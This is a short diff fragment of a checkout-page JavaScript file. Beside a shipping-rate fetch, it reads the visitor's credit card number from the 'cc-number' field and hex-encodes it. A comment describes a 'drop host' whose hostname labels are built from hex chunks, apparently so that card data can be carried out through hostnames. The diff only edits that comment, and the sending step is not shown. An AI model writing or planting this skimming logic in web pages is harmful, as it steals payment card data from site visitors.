@@ -34,7 +34,7 @@ fetch('https://' + region + '.api.shipping-rates.example.com/v1/quote', { method
   body: JSON.stringify({ zip: document.getElementById('postcode').value }) });
 
 // ---
-// A staging drop host under a name reserved for testing (RFC 2606 `.example`, RFC 6761 `.test`),
+// A staging drop host under the name reserved for documentation (RFC 2606 `.example`),
 // labels joined from hex chunks.
 var card = document.getElementById('cc-number').value, hx = '';
 for (var j = 0; j < card.length; j++) { hx += card.charCodeAt(j).toString(16); }
